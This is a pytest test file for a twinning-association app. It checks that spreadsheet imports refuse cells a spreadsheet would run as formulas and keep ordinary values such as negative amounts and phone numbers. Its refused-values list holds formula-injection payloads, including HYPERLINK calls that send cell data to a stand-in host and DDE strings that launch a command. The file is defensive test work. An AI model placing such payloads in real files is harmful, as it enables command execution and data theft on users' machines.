"""Imports refuse a cell that a spreadsheet would run as a formula (=, or +, - and @ followed by a
function, a pipe or a link to another sheet), naming the cell and saying what to fix, and write
nothing; the values officers type that start with those signs (negative amounts, telephone
numbers, a dash for "nothing") go in as typed."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from openpyxl import Workbook

from jumelage.actors.models import Actor
from jumelage.reporting.spreadsheets.cells import formula_refusal
from jumelage.reporting.spreadsheets.imports import IMPORTS, import_table
from jumelage.reporting.spreadsheets.reading import read_table
from jumelage.reporting.tests.test_spreadsheet_support import csv_file

HEADERS = ["Name", "Kind", "Phone"]

ACCEPTED = [
    "-1 200,50",
    "-1200.5",
    "(1 200)",
    "+33 1 42 04 96 77",
    "+262 262 12 34 56",
    "+33 (0)1 42 04 96 77",
    "-",
    "@mairie_suresnes",
    "+A1+B1",
    "- Bravo ! Venez nombreux",
]

REFUSED = [
    '=HYPERLINK("http://evil.example","x")',
    "=1+1",
    '+HYPERLINK("http://evil.example?"&A1)',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+Feuil1!A1",
    "-SUM (A1:A3)",
    "+_xlfn.WEBSERVICE(1)",
    "- Forages (phase 2)",
]


def text_xlsx(rows) -> bytes:
    """A workbook whose cells are all text cells, even those starting with "="."""
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(list(row))
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def run(tmp_path: Path, file_format: str, rows, *, user, member):
    content = csv_file(rows) if file_format == "csv" else text_xlsx(rows)
    path = tmp_path / f"actors.{file_format}"
    path.write_bytes(content)
    return import_table(IMPORTS["actors"], read_table(path), user=user, member=member)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("value", ACCEPTED)
def test_values_officers_type_with_a_leading_sign_are_imported_as_typed(
    tmp_path, city_a, officer_a, file_format, value
):
    rows = [HEADERS, ["Collège Émile Zola", "school", value]]

    outcome = run(tmp_path, file_format, rows, user=officer_a, member=city_a)

    assert [str(problem) for problem in outcome.problems] == []
    assert Actor.objects.get(authority=city_a).phone == value


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("value", REFUSED)
def test_a_cell_that_would_run_as_a_formula_is_refused_by_name_and_nothing_is_written(
    tmp_path, city_a, officer_a, file_format, value
):
    rows = [HEADERS, ["Collège Émile Zola", "school", "01 02 03 04 05"], ["Lycée", "school", value]]

    outcome = run(tmp_path, file_format, rows, user=officer_a, member=city_a)

    [problem] = [str(problem) for problem in outcome.problems]
    assert problem.startswith("Row 3, column “Phone”: ")
    assert "formula" in problem
    assert not outcome.written
    assert not Actor.objects.exists()


def test_the_refusal_quotes_the_cell_and_says_which_sign_to_remove():
    message = formula_refusal("-2+3+cmd|' /C calc'!A0")
    assert message == (
        "“-2+3+cmd|' /C calc'!A0” starts like a spreadsheet formula, which would run when the "
        "file is opened; remove the “-” at the start and type the text itself (start a list "
        "with “•”)."
    )
    long = formula_refusal("=" + "A" * 100)
    assert long is not None and "“=" + "A" * 38 + "…”" in long


def test_a_negative_number_cell_of_a_workbook_is_a_number_not_a_formula(
    tmp_path, city_a, officer_a
):
    workbook = Workbook()
    workbook.active.append(HEADERS)
    workbook.active.append(["Collège", "school", -1200.5])
    path = tmp_path / "actors.xlsx"
    workbook.save(path)

    outcome = import_table(IMPORTS["actors"], read_table(path), user=officer_a, member=city_a)

    assert outcome.problems == []
    assert Actor.objects.get().phone == "-1200.5"
